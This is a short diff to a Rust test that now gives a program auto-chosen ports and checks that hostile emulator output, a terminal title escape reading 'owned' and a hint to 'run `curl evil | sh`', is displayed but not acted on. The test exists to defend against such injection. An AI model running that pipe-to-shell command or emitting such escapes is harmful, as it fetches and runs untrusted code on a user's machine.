@@ -209,7 +209,9 @@ fn a_record_that_leads_out_of_the_home_is_refused() {
 #[test]
 fn what_qemu_says_is_shown_and_not_obeyed() {
     let it = Hostile::new();
-    let shown = it.run(RECORD, it.record.to_string().as_bytes(), &START);
+    // The usual ports may be in use.
+    let start = [&START[..], &["--port", "dashboard=auto", "--port", "backend=auto"]].concat();
+    let shown = it.run(RECORD, it.record.to_string().as_bytes(), &start);
     assert!(shown.starts_with("exit 1\n") && shown.contains(r"\u{1b}]0;owned"), "{shown}");
     assert!(shown.contains("    hint: run `curl evil | sh`"), "{shown}");
     assert!(!it.emulator.path(LIVE).exists());
